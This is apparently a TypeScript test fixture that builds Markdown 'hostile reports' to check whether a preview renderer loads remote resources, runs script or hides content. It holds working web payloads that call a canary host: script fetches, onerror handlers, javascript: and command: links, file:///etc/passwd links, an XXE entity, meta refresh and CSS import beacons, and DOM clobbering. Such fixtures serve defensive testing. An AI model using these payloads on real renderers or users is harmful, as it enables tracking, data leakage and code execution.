/*
 * The nastiest reports that we could think of: one for each way in which Markdown, HTML in it, or what editors make
 * of either could load something from elsewhere, run something, or hide the rest of the report.
 */

export interface HostileReport {
  /** Of its file: its kinds. */
  name: string;
  kinds: string[];
  markdown: string;
  /** A sentence at the very end: who reads it has a preview that is not broken. */
  end: string;
}

/** What stands in the text; `at` is an address, `host` the same without its scheme: `//name/kind`. */
type Body = (at: string, host: string) => string;

const BODIES: Record<string, Body> = {
  // Markdown's own.
  "image": (at) => `![a pixel](${at})`,
  "image-titled": (at) => `![a pixel](${at} "title")`,
  "image-reference": (at) => `![a pixel][r]\n\n[r]: ${at}`,
  "image-shortcut": (at) => `![pixel]\n\n[pixel]: <${at}> 'title'`,
  "image-in-link": (at) => `[![a pixel](${at})](${at})`,
  "image-in-heading": (at) => `## A ![pixel](${at}) heading`,
  "image-in-table": (at) => `| a |\n|---|\n| ![a pixel](${at}) |`,
  "image-in-list": (at) => `- a\n  - b\n    1. c ![a pixel](${at})`,
  "image-in-quote": (at) => `> > ![a pixel](${at})`,
  "image-in-marks": (at) => `**a _![pixel](${at})_ ~~![pixel](${at})~~**`,
  "image-in-verdict": (at) => `It is so. [[1.1]](#source-1) *(qualified: ![a](${at}))*`,
  "image-in-image": (at) => `![a ![pixel](${at}) ![pixel](${at})](${at})`,
  "image-by-entities": (at) => `![a pixel](${at.replace("h", "&#104;").replace("t", "&#x74;")})`,
  "image-without-scheme": (_, host) => `![a pixel](${host})`,
  "image-angled": (at) => `![a pixel](<${at}?a b c>)`,
  "image-data": (at) => `![a pixel](data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${at}"/></svg>`)})`,
  "image-in-footnote": (at) => `Text.[^1] and ^[inline ![a](${at})]\n\n[^1]: ![a pixel](${at})`,
  "image-deep": (at) => `${"> ".repeat(40)}![a pixel](${at})`,
  "image-in-citation": (at) => `It is so. [![1.1](${at})](#source-1)`,
  // Elements that load.
  "img": (at) => `<img src="${at}">`,
  "img-inline": (at) => `A sentence <img src="${at}"> goes on.`,
  "img-spaced": (at) => `<IMG\n  alt=">"\n  SRC\n=\n${at} / >`,
  "img-unclosed": (at) => `<img src="${at}"`,
  "img-in-table": (at) => `| a |\n|---|\n| <img src="${at}"> |`,
  "img-in-heading": (at) => `### <img src="${at}"> heading`,
  "img-in-list": (at) => `1. a\n   - <img src="${at}">`,
  "img-in-link-text": (at) => `[<img src="${at}">](#source-1)`,
  "img-in-link-title": (at) => `[a](#source-1 "\\"><img src='${at}'>")`,
  "img-in-alt": (at) => `![<img src="${at}">](x"><img/src='${at}'>)`,
  "img-in-fence-info": (at) => `\`\`\`x"><img/src="${at}">\nx\n\`\`\``,
  "img-after-nul": (at) => `<&#0;img src="${at}"><i&#0;mg src="${at}">&#0;<img&#0; src="${at}"><img src&#0;="${at}">`,
  "img-srcset": (at) => `<img srcset="${at} 1x, ${at}-2 2x">`,
  "img-alias": (at) => `<image src="${at}">`,
  "img-lazy": (at) => `<img loading="eager" decoding="sync" fetchpriority="high" src="${at}" referrerpolicy="unsafe-url">`,
  "picture": (at) => `<picture><source srcset="${at}"><img></picture>`,
  "input-image": (at) => `<input type="image" src="${at}">`,
  "video": (at) => `<video autoplay muted src="${at}"></video>`,
  "video-poster": (at) => `<video poster="${at}"></video>`,
  "video-source": (at) => `<video autoplay muted><source src="${at}"><track default src="${at}"></video>`,
  "audio": (at) => `<audio autoplay preload="auto" src="${at}"></audio>`,
  "iframe": (at) => `<iframe src="${at}"></iframe>`,
  "iframe-srcdoc": (at) => `<iframe srcdoc="&lt;img src='${at}'&gt;"></iframe>`,
  "frameset": (at) => `<frameset><frame src="${at}"></frameset>`,
  "object": (at) => `<object data="${at}" type="image/svg+xml"></object>`,
  "embed": (at) => `<embed src="${at}">`,
  "link-stylesheet": (at) => `<link rel="stylesheet" href="${at}">`,
  "link-icon": (at) => `<link rel="icon" href="${at}">`,
  "link-preload": (at) => `<link rel="preload" as="image" href="${at}"><link rel="prefetch" href="${at}"><link rel="modulepreload" href="${at}">`,
  "link-preconnect": (at) => `<link rel="preconnect" href="${at}"><link rel="dns-prefetch" href="${at}"><link rel="manifest" href="${at}">`,
  "table-background": (at) => `<table background="${at}"><tr><td background="${at}">a</td></tr></table>`,
  "body-background": (at) => `<body background="${at}">`,
  // Styles.
  "style-import": (at) => `<style>@import url("${at}");</style>`,
  "style-background": (at) => `<style>body { background: url(${at}) }</style>`,
  "style-font": (at) => `<style>@font-face { font-family: f; src: url(${at}) } body, p, h1 { font-family: f }</style>`,
  "style-inline": (at) => `<p style="background-image: url('${at}')">a</p>`,
  "style-inline-others": (at) => `<ul style="list-style-image: url(${at}); border-image: url(${at}-2) 1; cursor: url(${at}-3), auto"><li>a</li></ul>`,
  "style-set": (at) => `<p style="background: image-set('${at}' 1x); mask-image: url(${at})">a</p>`,
  "style-content": (at) => `<style>p::after { content: url(${at}) }</style>`,
  "style-hides": () => `<style>* { display: none !important }</style>`,
  "style-by-attribute-selector": (at) => `<style>a[href^="#source"] { background: url(${at}) }</style>`,
  "style-in-fence": (at) => `\`\`\`css\n@import url("${at}");\nbody { background: url(${at}) }\n\`\`\``,
  // SVG and MathML.
  "svg-image": (at) => `<svg><image href="${at}" xlink:href="${at}" width="9" height="9"/></svg>`,
  "svg-use": (at) => `<svg><use href="${at}#a"/></svg>`,
  "svg-filter": (at) => `<svg width="9" height="9"><filter id="f"><feImage href="${at}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
  "svg-paint": (at) => `<svg><rect fill="url(${at}#a)" mask="url(${at}#a)" width="9" height="9"/></svg>`,
  "svg-style": (at) => `<svg><style>@import "${at}";</style></svg>`,
  "svg-foreign": (at) => `<svg><foreignObject><img src="${at}"></foreignObject></svg>`,
  "svg-animate": (at) => `<svg><image><animate attributeName="href" to="${at}" fill="freeze" dur="1ms"/></image></svg>`,
  "mathml": (at) => `<math href="${at}"><mtext><img src="${at}"></mtext><annotation-xml encoding="text/html"><img src="${at}"></annotation-xml></math>`,
  // Code.
  "script": (at) => `<script src="${at}"></script>`,
  "script-inline": (at) => `<script>fetch("${at}"); new Image().src = "${at}"; location = "${at}"</script>`,
  "script-module": (at) => `<script type="module">import "${at}"</script>`,
  "script-rules": (at) => `<script type="speculationrules">{"prefetch":[{"urls":["${at}"]}]}</script>`,
  "handler": (at) => `<img src="x:y" onerror="fetch('${at}')"><details open ontoggle="fetch('${at}')">a</details>`,
  "template": (at) => `<div><template shadowrootmode="open"><img src="${at}"></template></div>`,
  // The page itself.
  "refresh": (at) => `<meta http-equiv="refresh" content="0; url=${at}">`,
  "refresh-to-nothing": () => `<meta http-equiv="refresh" content="0">`,
  "policy": (at) => `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; report-uri ${at}">`,
  "base": (at) => `<base href="${at}/" target="_top">\n\n![relative](a.png) <img src="b.png">`,
  "form": (at) => `<form action="${at}"><button autofocus formaction="${at}">OK</button><input name="a"></form>`,
  "anchor-ping": (at) => `<a href="${at}" ping="${at}" target="_top" download>a</a>`,
  "clobber": (at) => `<meta id="vscode-markdown-preview-data" data-settings="{}" data-state='{"resource":"${at}"}'><div class="markdown-body">another</div><p id="active-frame">a</p>`,
  // What hides the rest.
  "comment-unclosed": (at) => `<!-- ${at}`,
  "script-unclosed": (at) => `<script>fetch("${at}")`,
  "style-unclosed": (at) => `<style>@import "${at}";\n\n* { display: none }`,
  "textarea-unclosed": (at) => `<textarea><img src="${at}">`,
  "title-unclosed": (at) => `<title><img src="${at}">`,
  "plaintext": (at) => `<plaintext><img src="${at}">`,
  "declarations": (at) => `<?php <img src="${at}"> ?>\n\n<!DOCTYPE html [<!ENTITY a SYSTEM "${at}">]>\n\n<![CDATA[<img src="${at}">]]>`,
  "noscript": (at) => `<noscript><img src="${at}"><style>@import "${at}"</style></noscript>`,
  "dialog": (at) => `<dialog open style="position: fixed; inset: 0; background: url(${at})">Sign in</dialog>`,
  "closes-all": (at) => `</p></div></body></html><img src="${at}">`,
  // What other syntaxes draw.
  "math-image": (at) => `$\\includegraphics[width=1em]{${at}}$ and\n\n$$\n\\includegraphics{${at}}\n$$`,
  "math-link": (at) => `$\\href{${at}}{a} \\url{${at}} \\htmlStyle{background: url(${at})}{a}$`,
  "math-in-html": (at) => `<div>$$\\href{${at}}{a}$$ <img src="${at}"></div>`,
  "math-fence": (at) => `\`\`\`math\n\\includegraphics{${at}}\n\`\`\``,
  "mermaid": (at) => `\`\`\`mermaid\nflowchart LR\n  a@{ img: "${at}", label: "a", w: 60, h: 60 }\n  a --> b["<img src='${at}'>"]\n  click b href "${at}"\n\`\`\``,
  "mermaid-container": (at) => `:::mermaid\nflowchart LR\n  a@{ img: "${at}", label: "a", w: 60, h: 60 }\n  a --> b\n:::`,
  "mermaid-html": (at) => `<pre class="mermaid">\nflowchart LR\n  a@{ img: "${at}", label: "a", w: 60, h: 60 }\n</pre>`,
  "mermaid-style": (at) => `\`\`\`mermaid\n%%{init: {"themeCSS": "@import url(${at});", "fontFamily": "x; background: url(${at})"}}%%\nflowchart LR\n  a-->b\n  style a fill:url(${at})\n\`\`\``,
  "plantuml": (at) => `\`\`\`plantuml\n!include ${at}\n@startuml\nBob -> Alice\n@enduml\n\`\`\`\n\n@startuml\n!include ${at}\n@enduml`,
  "attributes": (at) => `A paragraph. {style="background: url(${at})" onclick="fetch('${at}')" srcset="${at}"}`,
  "containers": (at) => `::: warning <img src="${at}">\n![a](${at})\n:::\n\n@[youtube](${at})\n\n[[toc]]`,
  // Blocks that a report quotes.
  "block-code": (at) => `\`\`\`html\n<img src="${at}">\n<script src="${at}"></script>\n\`\`\`\n\n[[1.1]](#source-1)`,
  "block-fence-within": (at) => `\`\`\`text\n\`\`\`\n<img src="${at}">\n\n[[1.1]](#source-1)\n\n\`\`\`\n\`\`\``,
  "block-quote": (at) => `> - ![a](${at}) <img src="${at}">\n>   [[1.1]](${at})\n\n[[1.1]](#source-1)`,
  "block-table": (at) => `> | a | <img src="${at}"> |\n> | --- | --- |\n> | ![a](${at}) | b |\n\n[[1.1]](#source-1)`,
  // Links that are no links to the web or to a file beside.
  "links-to-commands": (at) => `[a](command:workbench.action.quit) <command:workbench.action.quit> <a href="command:x?%5B%22${at}%22%5D">a</a> [b](vscode://publisher.extension/?${at}) <vscode-insiders://file/etc/passwd>`,
  "links-to-code": (at) => `[a](javascript:fetch('${at}')) [b](&#106;avascript:fetch('${at}')) [c](data:text/html,${at}) [d](data:image/png;base64,AAAA) [e](vbscript:x) <javascript:fetch(1)>`,
  "links-to-files": (_, host) => `[a](file:///etc/passwd) [b](file:${host}) [c](${host}) [d](\\\\\\\\canary.test\\share) [e](/etc/passwd) [f](C:/Windows) <file:///etc/passwd> [g](%5C%5Ccanary.test%5Cshare)`,
  "links-with-names": (at) => `[a](${at.replace("//", "//google.com@")}) [b](${at.replace("//", "//google.com:443@")}) <${at.replace("//", "//google.com%40@")}> [c](https:google.com@canary.test)`,
  "bidi": (at) => `It is so. [[1.1]](#source-1) \u202e*(${at})* \u2066\u2067 ![a\u202e](${at}) \`\u202e\``,
}; // prettier-ignore

/** What stands in the front matter, which VS Code shows as a table. */
const FRONTS: Record<string, Body> = {
  "front-html": (at) => `note: <img src="${at}">`,
  "front-image": (at) => `note: "![a](${at}) </td></table><img src='${at}'>"`,
  "front-deep": (at) => `note:\n  - <img src="${at}">\n  - {"<img src='${at}'>": [1, [2, <style>]]}`,
  "front-broken": (at) => `note: [<img src="${at}">`,
  "front-name": (at) => `"<img src='${at}'>": a\n<img src='${at}'>: b`,
  "front-aliases": (at) => `a: &a ["${at}", "x"]\nb: &b [*a, *a, *a, *a]\nc: &c [*b, *b, *b, *b]\nd: &d [*c, *c, *c, *c]\ne: [*d, *d, *d, *d]`,
}; // prettier-ignore

/**
 * Makes the reports.
 * @param bases where requests are to go: "https://name", "http://127.0.0.1:1234"; each report tries all of them, and
 *   the first segment of an address' path is the kind
 * @param options.ours false for the same texts without what makes a file a report of ours
 * @param options.together how many kinds stand in one report, to be quick; 1 for each alone
 */
export function hostileReports(bases: string[], { ours = true, together = 1 } = {}): HostileReport[] {
  const text = (kind: string, body: Body): string[] =>
    bases.map((base) => body(`${base}/${kind}`, `${base.replace(/^\w+:/, "")}/${kind}`));
  // What is left open takes in all that follows.
  const alone = Object.entries(BODIES).filter(([kind]) => kind.endsWith("unclosed"));
  const shared = Object.entries(BODIES).filter(([kind]) => !kind.endsWith("unclosed"));
  const groups = Array.from({ length: Math.ceil(shared.length / together) }, (_, at) =>
    shared.slice(at * together, (at + 1) * together),
  );
  return [
    ...[...groups, ...alone.map((each) => [each])].map((group) => ({
      kinds: group.map(([kind]) => kind),
      front: "",
      body: group.flatMap(([kind, body]) => text(kind, body)),
    })),
    ...Object.entries(FRONTS).map(([kind, body]) => ({
      kinds: [kind],
      front: `${text(kind, body)[0] ?? ""}\n`,
      body: [],
    })),
  ].map(({ kinds, front, body }) => {
    const name = kinds.join("_");
    const end = `Here ends ${kinds[0] ?? ""}, and all of it can be read.`;
    const about = ours ? "session: 20261122-1015-a-question-7f3a" : "kind: a note";
    const blocks = [
      `---\ntitle: ${kinds[0] ?? ""}\n${about}\n${front}---`,
      "# A title",
      "A sentence that stands before. [[1.1]](#source-1)",
      ...body,
      "## Sources",
      "### Source 1",
      '[A file](../../a.md#L1), read on 2026-11-22.\n\n1. "A quote."',
      end,
    ];
    return { name, kinds, markdown: `${blocks.join("\n\n")}\n`, end };
  });
}
